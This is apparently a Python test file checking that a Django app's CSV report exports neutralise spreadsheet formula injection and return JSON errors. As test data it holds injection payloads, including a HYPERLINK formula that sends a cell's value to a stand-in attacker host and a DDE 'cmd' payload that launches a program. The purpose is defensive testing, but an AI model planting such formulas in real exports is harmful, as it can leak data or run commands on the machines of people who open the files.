"""CSV exports are safe to open in a spreadsheet (review M2) and fail in JSON (review L2). The same assertions run
the Python writer on SQLite and PostgreSQL's COPY on PostgreSQL: the view picks the path by database."""

from __future__ import annotations

import csv
import io

import pytest

from tests.reporting.conftest import report

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\tcmd",
    "\r=1",
]


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    return [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_prefixed_with_a_quote(api_client, build, formula):
    build(name=formula, description=formula, external_unique_id=formula[:50])
    (row,) = _rows(report(api_client, format="csv", page=None, pageSize=None, columns="name,description"))
    assert row["name"] == "'" + formula
    assert row["description"] == "'" + formula


def test_plain_text_and_numbers_are_written_as_they_are(api_client, build):
    build(name="Ada = Lovelace", description="", amount=1500)
    (row,) = _rows(report(api_client, format="csv", page=None, pageSize=None, columns="name,description,amount"))
    assert (row["name"], row["description"], row["amount"]) == ("Ada = Lovelace", "", "1500")


def test_a_merchant_name_that_is_a_formula_is_prefixed(api_client, build, company):
    company.name = "=cmd|' /C calc'!A0"
    company.save(update_fields=["name"])
    build()
    (row,) = _rows(report(api_client, format="csv", page=None, pageSize=None, columns="companyName"))
    assert row["companyName"] == "'" + company.name


@pytest.mark.parametrize(
    ("client_name", "params", "status"),
    [
        ("api_client", {"amount:gt": "abc"}, 400),
        ("api_client", {"nosuchfilter": "1"}, 400),
        ("anonymous_client", {}, 401),
    ],
)
def test_an_error_under_format_csv_is_the_json_envelope(request, client_name, params, status):
    client = request.getfixturevalue(client_name)
    response = report(client, format="csv", page=None, pageSize=None, **params)
    assert response.status_code == status
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert body["status"] == "error" and body["data"] is None
    assert body["message"] and body["errors"]
